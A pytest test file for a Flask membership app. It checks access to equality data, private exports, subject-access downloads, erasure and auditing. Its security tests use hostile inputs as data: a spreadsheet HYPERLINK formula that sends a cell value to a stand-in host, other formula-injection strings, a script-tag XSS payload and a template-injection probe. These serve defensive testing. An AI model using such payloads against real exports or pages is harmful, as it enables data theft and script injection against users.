"""Staff membership pages: list, record, add, edit, exports, erasure and reports."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC
from datetime import datetime
from typing import Any

import openpyxl
import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from engage.audit.models import AuditEvent
from engage.extensions import db
from engage.membership.models import ConsentMethod
from engage.membership.models import ConsentRecord
from engage.membership.models import ContactChannel
from engage.membership.models import Member
from engage.membership.models import MemberStatus
from engage.membership.models import PopulationShare
from engage.membership.models import Practice
from engage.membership.models import Tier
from engage.membership.models import Topic
from tests.factories import MemberFactory
from tests.pager import pager_links

NOW = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)

#: Equality answers given to members in these tests, and their labels.
EQUALITY = {"ethnicity": "white_roma", "age_band": "65_74", "disability": "yes"}
EQUALITY_TEXT = ("White: Roma", "white_roma", "65 to 74", "65_74", "12 months or more")


def make_member(
    name: str = "Pat Member",
    email: str | None = "pat@example.org",
    *,
    equality: bool = True,
    **fields: Any,
) -> Member:
    """An active member with equality answers, committed so requests see it."""
    return MemberFactory(
        name=name,
        email=email,
        created_at=NOW,
        equality=EQUALITY if equality else None,
        **fields,
    )


def audit(action: str, entity_type: str = "member") -> list[AuditEvent]:
    return list(
        db.session.scalars(
            select(AuditEvent).where(
                AuditEvent.action == action, AuditEvent.entity_type == entity_type
            )
        )
    )


def _text(response: Any) -> str:
    """A page, CSV or workbook's text."""
    if response.mimetype.endswith("sheet"):
        workbook = openpyxl.load_workbook(io.BytesIO(response.data))
        return repr(list(workbook.active.iter_rows(values_only=True)))
    return str(response.get_data(as_text=True))


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


# B3: equality data only for admins ----------------------------------------------------


@pytest.mark.parametrize("role", ["lead", "officer"])
def test_staff_pages_never_show_equality_answers(
    client: FlaskClient, login, cast, role: str
) -> None:
    member = make_member()
    login(cast[role])
    pages = [
        client.get("/members/"),
        client.get("/members/?q=pat&tier=silver&status=active"),
        client.get(f"/members/{member.id}"),
    ]
    if role == "officer":
        pages += [client.get("/members/export.csv"), client.get("/members/export.xlsx")]
    for response in pages:
        assert response.status_code == 200
        body = _text(response)
        assert "Pat Member" in body
        for text in EQUALITY_TEXT:
            assert text not in body
    if role == "officer":
        header = csv_rows(pages[3].data)[0]
        assert "ethnicity" not in header


def test_lead_cannot_export_members(client: FlaskClient, login, cast) -> None:
    login(cast["lead"])
    assert client.get("/members/export.csv").status_code == 403


def test_officer_asking_for_equality_columns_gets_403(
    client: FlaskClient, login, cast
) -> None:
    make_member()
    login(cast["officer"])
    assert client.get("/members/export.csv?equality=1").status_code == 403
    assert client.get("/members/export.xlsx?equality=1").status_code == 403
    assert audit("export") == []


def test_admin_export_with_equality_includes_them_and_is_audited(
    client: FlaskClient, login, cast
) -> None:
    make_member()
    login(cast["admin"])
    response = client.get("/members/export.csv?equality=1")
    assert response.status_code == 200
    header, row = csv_rows(response.data)
    assert row[header.index("What is your ethnic group?")] == "White: Roma"
    assert row[header.index("What is your age?")] == "65 to 74"
    (event,) = audit("export")
    assert event.actor_id == cast["admin"].id
    assert "with equality answers" in event.summary


def test_equality_report_suppresses_small_counts_and_is_audited(
    client: FlaskClient, login, cast
) -> None:
    for index in range(8):
        make_member(f"Member {index}", f"m{index}@example.org", equality=index < 2)
    login(cast["admin"])
    response = client.get("/members/equality")
    body = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "fewer than 5" in body
    assert '<th scope="row"' in body
    assert "<caption" in body
    (event,) = audit("view", "equality_report")
    assert event.actor_id == cast["admin"].id


@pytest.mark.parametrize("role", ["lead", "officer"])
def test_only_admins_see_the_equality_report(
    client: FlaskClient, login, cast, role: str
) -> None:
    login(cast[role])
    assert client.get("/members/equality").status_code == 403


def test_admin_enters_the_population_profile(client: FlaskClient, login, cast) -> None:
    login(cast["admin"])
    assert client.get("/members/equality/population").status_code == 200
    response = client.post(
        "/members/equality/population",
        data={"sex__female": "51.2", "sex__male": "48.8", "carer__yes": ""},
    )
    assert response.status_code == 302
    shares = {
        (s.category, s.value): s.percent
        for s in db.session.scalars(select(PopulationShare))
    }
    assert shares == {("sex", "female"): 51.2, ("sex", "male"): 48.8}
    bad = client.post("/members/equality/population", data={"sex__female": "120"})
    assert bad.status_code == 200
    assert "Enter a percentage from 0 to 100" in bad.get_data(as_text=True)


# B6: downloads need a session and the right role --------------------------------------


@pytest.mark.parametrize(
    "url",
    ["/members/export.csv", "/members/export.xlsx", "/members/1/subject-access.json"],
)
def test_downloads_without_a_session_go_to_login(client: FlaskClient, url: str) -> None:
    response = client.get(url)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login")


@pytest.mark.parametrize("role", ["lead", "officer"])
def test_subject_access_is_for_admins_only(
    client: FlaskClient, login, cast, role: str
) -> None:
    member = make_member()
    login(cast[role])
    assert client.get(f"/members/{member.id}/subject-access.json").status_code == 403


def test_subject_access_download_is_private_json(
    client: FlaskClient, login, cast
) -> None:
    x = make_member("Xena Example", "xena@example.org")
    make_member("Yann Other", "yann@example.org")
    login(cast["admin"])
    response = client.get(f"/members/{x.id}/subject-access.json")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="member-{x.id}-subject-access.json"'
    )
    data = json.loads(response.data)
    assert data["member"]["email"] == "xena@example.org"
    assert data["equality_answers"]["ethnicity"] == "white_roma"
    assert "yann" not in response.get_data(as_text=True).lower()
    assert [e["action"] for e in data["audit_events"]] == ["export"]


def test_export_headers_are_private_with_a_dated_filename(
    client: FlaskClient, login, cast
) -> None:
    login(cast["officer"])
    response = client.get("/members/export.xlsx")
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="members-')
    assert disposition.endswith('.xlsx"')


# C3: formula-safe exports -------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"x")', "+SUM(1,1)", "-2+3", "@cmd"]


def test_exports_neutralise_formulas(client: FlaskClient, login, cast) -> None:
    for index, name in enumerate(FORMULAS):
        make_member(name, f"f{index}@example.org", phone="+447700900123")
    left = make_member("Withdrawn Person", "gone@example.org")
    left.status = MemberStatus.WITHDRAWN
    db.session.commit()
    login(cast["officer"])
    header, *rows = csv_rows(client.get("/members/export.csv").data)
    assert sorted(row[header.index("Name")] for row in rows) == sorted(
        "'" + name for name in FORMULAS
    )
    assert {row[header.index("Phone")] for row in rows} == {"'+447700900123"}
    workbook = openpyxl.load_workbook(
        io.BytesIO(client.get("/members/export.xlsx").data)
    )
    cells = {c for row in workbook.active.iter_rows(values_only=True) for c in row}
    assert "'+447700900123" in cells
    assert {"'" + name for name in FORMULAS} <= cells
    assert "Withdrawn Person" not in cells


# C1: member data is escaped -----------------------------------------------------------


def test_member_data_is_escaped_on_list_and_record(
    client: FlaskClient, login, cast
) -> None:
    member = make_member("<script>alert(1)</script>", notes="{{7*7}}")
    login(cast["lead"])
    for url in ("/members/", f"/members/{member.id}"):
        body = client.get(url).get_data(as_text=True)
        assert "<script>alert(1)</script>" not in body
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
    detail = client.get(f"/members/{member.id}").get_data(as_text=True)
    assert "{{7*7}}" in detail


# The record, adding and editing -------------------------------------------------------


def test_viewing_a_record_is_audited(client: FlaskClient, login, cast) -> None:
    member = make_member()
    login(cast["lead"])
    assert client.get(f"/members/{member.id}").status_code == 200
    (event,) = audit("view")
    assert event.entity_id == str(member.id)
    assert event.actor_id == cast["lead"].id


FORM = {
    "method": "phone",
    "name": "Ruth Phone",
    "email": "ruth@example.org",
    "phone": "07700 900123",
    "postcode": "LS1 4AP",
    "tier": "gold",
    "consents": ["email", "phone"],
}


def test_officer_adds_a_member_who_joined_by_phone(
    client: FlaskClient, login, cast
) -> None:
    login(cast["officer"])
    response = client.post("/members/new", data=FORM)
    assert response.status_code == 302
    member = db.session.scalar(select(Member).where(Member.name == "Ruth Phone"))
    assert member is not None
    assert member.joined_by is ConsentMethod.PHONE
    records = db.session.scalars(select(ConsentRecord)).all()
    assert {(r.channel, r.method) for r in records} == {
        (ContactChannel.EMAIL, ConsentMethod.PHONE),
        (ContactChannel.PHONE, ConsentMethod.PHONE),
    }
    detail = client.get(response.headers["Location"]).get_data(as_text=True)
    # How they joined and gave consent, in words on the record and the list.
    assert "(by phone)\n    </dd>" in detail
    assert ">By phone</td>" in detail
    assert "Gave consent to contact by email, under privacy notice" in detail
    assert "Gave consent to contact by phone, under privacy notice" in detail
    listed = client.get("/members/").get_data(as_text=True)
    assert "(by phone)</td>" in listed
    for code in ("(phone)", "web-form", "create:", "wording"):
        assert code not in detail + listed


def test_adding_a_known_email_shows_a_field_error(
    client: FlaskClient, login, cast
) -> None:
    make_member("Someone Else", "ruth@example.org")
    login(cast["officer"])
    response = client.post("/members/new", data=FORM)
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert "A member with this email address already exists" in body
    assert 'href="#email"' in body
    assert db.session.scalars(select(Member)).all()[0].name == "Someone Else"


def test_adding_without_contact_details_shows_a_field_error(
    client: FlaskClient, login, cast
) -> None:
    login(cast["officer"])
    data = {**FORM, "email": "", "phone": "", "consents": []}
    response = client.post("/members/new", data=data)
    assert response.status_code == 200
    assert "Enter at least one way to contact the member" in response.get_data(
        as_text=True
    )


def test_edit_ignores_fields_that_are_not_on_the_form(
    client: FlaskClient, login, cast
) -> None:
    practice = Practice(name="Castle Street Surgery")
    topic = Topic(name="Cancer")
    db.session.add_all([practice, topic])
    member = make_member(equality=False)
    login(cast["officer"])
    assert client.get(f"/members/{member.id}/edit").status_code == 200
    response = client.post(
        f"/members/{member.id}/edit",
        data={
            "name": "Pat Member",
            "email": "pat@example.org",
            "tier": "gold",
            "practice_id": str(practice.id),
            "topics": [str(topic.id)],
            "support_needs": ["large_print"],
            "is_champion": "y",
            "status": "erased",
            "created_at": "2001-01-01T00:00:00",
            "consent_at": "2001-01-01T00:00:00",
            "created_by": str(cast["admin"].id),
        },
    )
    assert response.status_code == 302
    db.session.refresh(member)
    assert member.tier is Tier.GOLD
    assert member.practice_id == practice.id
    assert [t.name for t in member.topics] == ["Cancer"]
    assert member.is_champion
    assert member.status is MemberStatus.ACTIVE
    assert member.created_at == NOW
    assert member.consents == []


def test_officer_withdraws_a_member(client: FlaskClient, login, cast) -> None:
    member = make_member()
    login(cast["officer"])
    response = client.post(f"/members/{member.id}/withdraw")
    assert response.status_code == 302
    db.session.refresh(member)
    assert member.status is MemberStatus.WITHDRAWN
    listed = client.get("/members/?status=withdrawn").get_data(as_text=True)
    assert "Pat Member" in listed


def test_admin_erases_a_member(client: FlaskClient, login, cast) -> None:
    member = make_member(phone="07700900123")
    login(cast["admin"])
    page = client.get(f"/members/{member.id}/erase").get_data(as_text=True)
    assert "cannot be undone" in page
    unconfirmed = client.post(
        f"/members/{member.id}/erase", data={"reason": "member_request"}
    )
    assert unconfirmed.status_code == 200
    assert db.session.get(Member, member.id).status is MemberStatus.ACTIVE
    response = client.post(
        f"/members/{member.id}/erase",
        data={"reason": "member_request", "confirm": "y"},
    )
    assert response.status_code == 302
    erased = db.session.get(Member, member.id)
    assert erased.status is MemberStatus.ERASED
    assert erased.email is None
    assert erased.equality is None
    assert "Pat Member" not in client.get("/members/").get_data(as_text=True)
    assert client.get(f"/members/{member.id}").status_code == 404
    (event,) = audit("erase")
    assert event.summary == "reason: member_request"


def test_list_filters_and_paginates(client: FlaskClient, login, cast) -> None:
    for index in range(51):
        make_member(f"Member {index:02}", f"m{index}@example.org", equality=False)
    make_member("Golden Champion", "gold@example.org", tier=Tier.GOLD, is_champion=True)
    login(cast["lead"])
    first = client.get("/members/?status=active").get_data(as_text=True)
    assert "52 members, newest first" in first
    assert "Member 00" not in first  # all joined at once: the lowest id is last
    links = pager_links(first)
    assert set(links) == {"next", "last"}
    # The filter is kept from page to page, and in the first and last page links.
    assert "status=active" in links["next"]
    second = client.get(links["next"]).get_data(as_text=True)
    assert "52 members" in second
    assert "Member 00" in second
    assert "Member 01" in second
    assert "Member 02" not in second
    assert set(pager_links(second)) == {"previous", "first"}
    first_again = client.get(pager_links(second)["first"]).get_data(as_text=True)
    assert _listed(first_again) == _listed(first)
    back = client.get(pager_links(second)["previous"]).get_data(as_text=True)
    assert "Member 02" in back
    assert "Member 01" not in back
    assert pager_links(back) == pager_links(first)
    last = client.get(links["last"]).get_data(as_text=True)
    assert "Member 00" in last
    assert "Member 01" in last
    assert "Golden Champion" in client.get("/members/?champion=y").get_data(
        as_text=True
    )
    only_gold = client.get("/members/?tier=gold").get_data(as_text=True)
    assert "Member 01" not in only_gold
    assert client.get("/members/?tier=nonsense&page=2").status_code == 200


@pytest.mark.parametrize(
    "query", ["page=2", "after=garbage", "before=%ff%fe", "after=W10.x&before=y"]
)
def test_list_links_it_did_not_make_give_the_first_page(
    client: FlaskClient, login, cast, query: str
) -> None:
    for index in range(51):
        make_member(f"Member {index:02}", f"m{index}@example.org", equality=False)
    login(cast["lead"])
    first = client.get("/members/").get_data(as_text=True)
    response = client.get(f"/members/?{query}")
    assert response.status_code == 200
    assert _listed(response.get_data(as_text=True)) == _listed(first)


def _listed(html: str) -> list[str]:
    """The names in the member list, in order."""
    return re.findall(r'/members/\d+">([^<]+)</a>', html)


# Practices and topics -----------------------------------------------------------------


def test_admin_adds_and_retires_practices_and_topics(
    client: FlaskClient, login, cast
) -> None:
    login(cast["admin"])
    client.post("/members/practices", data={"new-name": "Old Mill Practice"})
    practice = db.session.scalar(select(Practice))
    assert practice is not None
    assert practice.name == "Old Mill Practice"
    client.post(
        "/members/practices",
        data={"item_id": str(practice.id), f"item{practice.id}-name": "Old Mill"},
    )
    db.session.refresh(practice)
    assert practice.name == "Old Mill"
    assert practice.is_active is False
    duplicate = client.post("/members/practices", data={"new-name": "old mill"})
    assert "already exists" in duplicate.get_data(as_text=True)
    coded = {"new-name": "Leeds Road", "new-code": "not a code!!"}
    refused = client.post("/members/practices", data=coded)
    assert "Enter the ODS code in letters and numbers only" in refused.get_data(
        as_text=True
    )
    client.post("/members/practices", data={**coded, "new-code": " b86001 "})
    added = db.session.scalar(select(Practice).where(Practice.name == "Leeds Road"))
    assert added is not None
    assert added.code == "B86001"

    client.post("/members/topics", data={"new-name": "Cancer", "new-is_active": "y"})
    topic = db.session.scalar(select(Topic))
    assert topic is not None
    assert topic.is_active
    assert "Cancer" in client.get("/members/topics").get_data(as_text=True)
